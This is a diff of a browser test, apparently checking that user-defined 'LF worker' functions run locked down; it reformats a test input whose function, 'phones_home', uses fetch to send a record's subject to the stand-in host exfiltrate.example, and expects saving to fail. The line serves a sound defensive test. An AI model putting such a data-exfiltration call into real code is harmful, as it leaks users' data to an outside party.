@@ -22,7 +22,11 @@ browserSuite('LF workers are locked down', () => {
     await openDemoLfs(h);
     const page = h.page;
 
-    await writeCodeLf(page, 'phones_home', "(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }");
+    await writeCodeLf(
+      page,
+      'phones_home',
+      "(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }",
+    );
     await page.getByTestId('lf-save').click();
     const error = lfRow(page, 'phones_home').getByTestId('lf-error');
     await error.waitFor({ timeout: 60_000 });
